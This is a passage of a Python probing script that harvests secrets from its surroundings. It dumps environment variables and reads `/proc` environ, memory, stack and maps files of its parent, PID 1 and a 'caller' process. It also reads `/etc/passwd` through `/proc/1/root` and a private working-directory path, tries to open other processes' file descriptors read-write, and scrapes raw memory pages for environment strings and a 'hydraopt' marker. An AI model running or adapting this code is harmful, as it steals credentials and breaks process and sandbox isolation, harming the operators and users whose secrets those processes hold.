# The environment of the caller: in the interpreter, in the first stack, in /proc, in any memory.
print(os.environ)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environ and environ[index]:
    print(environ[index])
    index += 1
for path in ("self", "thread-self", "1", str(os.getppid()), str(P["caller"]), str(P["parent"])):
    for name in ("environ", "cmdline", "maps", "mem", "stack", "root/etc/passwd", "cwd/private"):
        attempt(name, lambda: open(f"/proc/{path}/{name}", "rb").read(1 << 16))
    if "self" not in path:  # its own descriptors it has anyway
        for number in range(100):
            attempt(f"{path}/fd/{number}", os.open, f"/proc/{path}/fd/{number}", os.O_RDWR)
            attempt(f"{path}/fd/{number}", os.open, f"/proc/{path}/fd/{number}", os.O_RDONLY)


def readable(address, size=4096):
    """Read memory that may not be there: the kernel answers EFAULT instead of a signal."""
    reader, writer = os.pipe()
    try:
        libc.write.restype = ctypes.c_ssize_t
        count = libc.write(writer, ctypes.c_void_p(address), size)
        return os.read(reader, count) if count > 0 else b""
    finally:
        os.close(reader)
        os.close(writer)


# Strings of the first program that ran in this process lie above its name.
name = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
start = (name or 0) & ~4095
found = b"".join(readable(start + page * 4096) for page in range(-64, 64))
print([part for part in found.split(b"\0") if b"=" in part or b"hydraopt" in part][:200])
print("END")
